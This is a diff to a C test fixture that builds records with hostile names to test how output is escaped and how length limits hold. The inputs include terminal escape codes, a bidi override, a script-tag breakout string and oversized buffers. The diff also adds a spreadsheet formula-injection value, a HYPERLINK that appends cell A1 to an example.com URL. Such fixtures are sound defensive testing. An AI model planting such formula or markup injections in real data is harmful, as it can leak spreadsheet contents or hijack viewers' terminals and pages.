@@ -220,20 +220,22 @@ void world_release(struct world *w)
 
 /* ---- hostile names -------------------------------------------------------------------- */
 
-void world_make_hostile(struct world *w)
+void world_make_hostile(struct world *w, size_t longest)
 {
     static char huge[100000];
     static const char forged[] = "x\n\nnothing to correct\x1b[2J\x7f\xc2\x9b\xe2\x80\xae";
 
+    assert_true(longest <= sizeof huge);
     memset(huge, 'n', sizeof huge);
     w->campaign[0].name = slice_of(forged);
     w->campaign[1].name = slice_of("\"\\</script><b>\xff\xfe\xc3");
-    w->campaign[3].name = (struct slice){huge, sizeof huge};
+    w->campaign[2].name = slice_of("=HYPERLINK(\"http://example.com/?\"&A1,\"x\")");
+    w->campaign[3].name = (struct slice){huge, longest};
     w->correction[0].message_id = (struct slice){forged, sizeof forged}; /* with its NUL */
-    w->correction[1].message_id = (struct slice){huge, sizeof huge};
-    w->correction[1].after.error = (struct slice){huge, sizeof huge};
+    w->correction[1].message_id = (struct slice){huge, longest};
+    w->correction[1].after.error = (struct slice){huge, longest};
     w->correction[2].after.error = slice_of(forged);
-    w->mismatch[0].instance = (struct slice){huge, sizeof huge};
+    w->mismatch[0].instance = (struct slice){huge, longest};
     w->mismatch[1].instance = slice_of("\xc3\xa9\xc3\xa9\t");
     w->warning[0] = (struct slice){huge, 300};
     w->warning[1] = slice_of(forged);
